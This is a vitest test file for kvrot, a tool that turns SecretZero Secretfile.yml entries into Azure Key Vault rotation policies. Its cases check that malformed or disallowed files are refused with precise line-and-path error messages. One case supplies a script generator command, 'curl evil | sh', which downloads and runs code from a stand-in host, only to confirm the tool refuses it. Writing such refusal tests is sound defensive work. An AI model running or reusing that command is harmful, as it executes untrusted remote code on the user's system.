/**
 * Each refusal names the file, line, column and path, and says why; each produces no policy
 * for what it refuses.
 */
import { describe, expect, it } from 'vitest';
import type { ReadSecretfileOptions } from '../../../src/core/secretfile/index.js';
import { errors, HEAD, oneSecret, read } from './secretfile-mother.js';

type Case = [name: string, text: string, expected: string, options?: Partial<ReadSecretfileOptions>];

const kv = 'targets: [{provider: azure, kind: key_vault, config: {vault_url: "https://kv-app.vault.azure.net"}}]';

describe('refusals', () => {
  it.each<Case>([
    [
      'a script generator with a Key Vault target',
      oneSecret('kind: script\nconfig: {command: "curl evil | sh"}'),
      'Secretfile.yml:4:11: secrets[0].kind: a script generator is refused: kvrot never runs a command from a file',
    ],
    [
      'a generator kind kvrot does not make',
      oneSecret('kind: github_pat'),
      "Secretfile.yml:4:11: secrets[0].kind: generator kind 'github_pat' is not one kvrot makes: a secret in Key Vault is random_password, random_string, static or templates.<name>",
    ],
    [
      'a template that is not defined',
      oneSecret('kind: templates.nowhere'),
      "Secretfile.yml:4:11: secrets[0].kind: template 'nowhere' is not defined under templates",
    ],
    [
      'a rotation_period SecretZero cannot read',
      oneSecret('kind: random_password\nrotation_period: 12h'),
      "Secretfile.yml:5:22: secrets[0].rotation_period: '12h' is not a period SecretZero understands (a whole number and d, w, m or y, such as 90d): SecretZero would never rotate this secret, without a word; write it as days, e.g. 90d",
    ],
    [
      'a rotation_period of zero',
      oneSecret('kind: random_password\nrotation_period: 0d'),
      "Secretfile.yml:5:22: secrets[0].rotation_period: duration '0d' is zero: a rotation interval must be longer than zero",
    ],
    [
      'an x-kvrot validFor inside the near-expiry window',
      oneSecret('kind: random_password\nrotation_period: 7d\nx-kvrot: {validFor: 30d}'),
      "Secretfile.yml:6:25: secrets[0].x-kvrot.validFor: validFor (30d) must be longer than 30 days: Key Vault raises SecretNearExpiry 30 days before a version expires",
    ],
    [
      'a validFor on a one_time secret',
      oneSecret('kind: random_password\none_time: true\nx-kvrot: {validFor: 90d}'),
      'Secretfile.yml:6:25: secrets[0].x-kvrot.validFor: a one_time secret is never rotated, so it has no validFor to give its versions',
    ],
    [
      'a length parsePolicy refuses, at the config key',
      oneSecret('kind: random_password\nrotation_period: 30d\nconfig: {length: 5000}'),
      "Secretfile.yml:6:22: secrets[0].config.length: must be at most 4096 [policy 'app-key', generator.length]",
    ],
    [
      'a boolean written as text, which SecretZero would read as true',
      oneSecret('kind: random_password\nrotation_period: 30d\nconfig: {special: "false"}'),
      "Secretfile.yml:6:23: secrets[0].config.special: must be true or false, not text: SecretZero reads any non-empty text, 'false' included, as true",
    ],
    [
      'a secret name Key Vault refuses, defaulted from the SecretZero name',
      oneSecret('kind: random_password\nrotation_period: 30d').replace('name: app-key', 'name: app_key'),
      "Secretfile.yml:3:11: secrets[0].name: Key Vault secret names allow only letters, digits and hyphens; '_' is not allowed (use '-') (the target has no config.secret_name, so the secret's name is used, as SecretZero does: set config.secret_name) [policy 'app-key', secretName]",
    ],
    [
      'a vault URL that is not Key Vault',
      oneSecret('kind: random_password\nrotation_period: 30d', 'vault_url: https://example.com'),
      "Secretfile.yml:10:22: secrets[0].targets[0].config.vault_url: vault URL 'https://example.com' is not a Key Vault host",
    ],
    [
      'a Key Vault target with no vault_url',
      oneSecret('kind: random_password\nrotation_period: 30d', 'secret_name: app-key'),
      'Secretfile.yml:10:11: secrets[0].targets[0].config: a key_vault target needs config.vault_url (https://<vault>.vault.azure.net)',
    ],
    [
      'an unknown x-kvrot field, at its key',
      oneSecret('kind: random_password\nrotation_period: 30d\nx-kvrot: {ownr: team-b}'),
      'Secretfile.yml:6:15: secrets[0].x-kvrot.ownr: is not an x-kvrot field (environment, owner, tags, validFor, strategy, consumers, id): unknown fields are refused so that a typo cannot silently change a policy',
    ],
    [
      'a reserved tag',
      oneSecret('kind: random_password\nrotation_period: 30d\nx-kvrot: {tags: {managed-by: me}}'),
      "Secretfile.yml:6:34: secrets[0].x-kvrot.tags.managed-by: 'managed-by' is reserved: this app writes it to mark the versions it creates [policy 'app-key', tags.managed-by]",
    ],
    [
      'a secret with no owner or environment',
      oneSecret('kind: random_password\nrotation_period: 30d').replace(HEAD, ''),
      "Secretfile.yml:2:5: secrets[0]: secret 'app-key' has no environment (set x-kvrot.environment on it or at the top level, or choose a profile with -e) and no owner (set x-kvrot.owner on it or at the top level, or metadata.owner): every policy names the environment it belongs to and who to contact",
    ],
    [
      'a name that makes no policy id',
      oneSecret('kind: random_password\nrotation_period: 30d').replace('name: app-key', 'name: "1st"'),
      "Secretfile.yml:3:11: secrets[0].name: no policy id can be made from secret name '1st' (an id is lower-case letters, digits and hyphens, starting with a letter): set x-kvrot.id on the secret",
    ],
    [
      'a secret name that is not text',
      oneSecret('kind: random_password').replace('name: app-key', 'name: 42'),
      'Secretfile.yml:3:11: secrets[0].name: must be a string, not a number',
    ],
    [
      'secrets that is not a list',
      `${HEAD}secrets: {a: 1}\n`,
      'Secretfile.yml:2:10: secrets: must be an array, not an object',
    ],
    [
      'a template field with no value to write',
      `${HEAD}secrets:\n  - {name: db, kind: templates.db, rotation_period: 30d}\ntemplates:\n  db:\n    description: d\n    fields:\n      host: {description: h, generator: {kind: static}}\n      password: {description: p, generator: {kind: random_password}}\n    ${kv}\n`,
      "Secretfile.yml:8:41: templates.db.fields.host.generator.config: template field 'host' has no fixed value (config.default): SecretZero would ask a person for it, and kvrot has no one to ask",
    ],
    [
      'a template of fixed values only',
      `${HEAD}secrets:\n  - {name: db, kind: templates.db, rotation_period: 30d}\ntemplates:\n  db:\n    description: d\n    fields:\n      host: {description: h, generator: {kind: static, config: {default: x}}}\n    ${kv}\n`,
      "Secretfile.yml:8:7: templates.db.fields: every field is static, so each rotation would write the same value again: generate at least one field, or use kind static [policy 'db', generator.fields]",
    ],
    [
      'two secrets that make the same policy id',
      `${HEAD}secrets:\n  - {name: app_key, kind: random_password, ${kv.replace('}}]', ', secret_name: a}}]')}}\n  - {name: app-key, kind: random_password, ${kv.replace('}}]', ', secret_name: b}}]')}}\n`,
      "Secretfile.yml:4:12: secrets[1].name: policy id 'app-key' is also made by secrets[0] (app_key): set x-kvrot.id on one of them",
    ],
    [
      'two policies for the same Key Vault secret, in any case',
      `${HEAD}secrets:\n  - {name: a, kind: random_password, ${kv.replace('}}]', ', secret_name: Db}}]')}}\n  - {name: b, kind: random_password, ${kv.replace('}}]', ', secret_name: db}}]')}}\n`,
      "Secretfile.yml:4:150: secrets[1].targets[0].config.secret_name: secret 'db' in https://kv-app.vault.azure.net is also governed by policy 'a': two policies would rotate the same Key Vault secret (names are compared without regard to case)",
    ],
    [
      'an unknown environment',
      `${HEAD}environments: {profiles: {staging: {}}}\nsecrets: []\n`,
      "Secretfile.yml:2:26: environments.profiles: environment 'production' is not defined here; the file defines staging",
      { environment: 'production' },
    ],
    [
      'an environment asked for in a file without environments',
      `${HEAD}secrets: []\n`,
      "Secretfile.yml:1:1: environment 'production' was asked for (-e), but the file has no environments map",
      { environment: 'production' },
    ],
    [
      'a var file that cannot be read',
      `${HEAD}environments: {profiles: {production: {var_files: [missing.szvar]}}}\nsecrets: []\n`,
      "Secretfile.yml:2:52: environments.profiles.production.var_files[0]: var file 'missing.szvar' cannot be read: no such file",
      { environment: 'production', loadVarFile: () => ({ problem: 'no such file' }) },
    ],
    [
      'a var file listed twice',
      `${HEAD}environments: {profiles: {production: {var_files: [a.szvar, a.szvar]}}}\nsecrets: []\n`,
      "Secretfile.yml:2:61: environments.profiles.production.var_files[1]: var file 'a.szvar' is listed twice",
      { environment: 'production', loadVarFile: (name: string) => ({ name, text: 'x: 1\n' }) },
    ],
    [
      'a var file that is not a map, in the var file',
      `${HEAD}secrets: []\n`,
      'vars.szvar:1:1: a var file holds a map of variables, not a list',
      { varFiles: [{ name: 'vars.szvar', text: '- a\n' }] },
    ],
    [
      'malformed YAML in a var file, in the var file',
      `${HEAD}secrets: []\n`,
      'vars.szvar:2:1: this key is written twice in the same map',
      { varFiles: [{ name: 'vars.szvar', text: 'a: 1\na: 2\n' }] },
    ],
    [
      'a Jinja2 filter',
      oneSecret('kind: random_password\nrotation_period: 30d', 'vault_url: "https://{{ var.app | lower }}.vault.azure.net"'),
      "Secretfile.yml:10:22: secrets[0].targets[0].config.vault_url: {{ }}: a character here is outside what kvrot evaluates",
    ],
    [
      'a SecretZero policy with a severity it does not know',
      `${HEAD}policies: {p: {kind: rotation, severity: fatal}}\nsecrets: []\n`,
      'Secretfile.yml:2:42: policies.p.severity: must be error, warning or info',
    ],
  ])('refuses %s', (_name, text, expected, options = {}) => {
    // Act
    const result = read(text, options);

    // Assert
    expect(errors(result).find((message) => message.startsWith(expected)), errors(result).join('\n')).toBeDefined();
  });

  it('reports every problem of a file, not only the first, and keeps the policies it could make', () => {
    // Arrange
    const text = `${HEAD}secrets:
  - {name: good, kind: random_password, rotation_period: 30d, ${kv}}
  - {name: bad-length, kind: random_password, config: {length: 4}, ${kv.replace('}}]', ', secret_name: b}}]')}}
  - {name: bad-kind, kind: script, ${kv.replace('}}]', ', secret_name: c}}]')}}
`;

    // Act
    const result = read(text);

    // Assert
    expect(result.policies.map(({ policy }) => policy.id)).toEqual(['good']);
    expect(errors(result)).toHaveLength(2);
  });
});
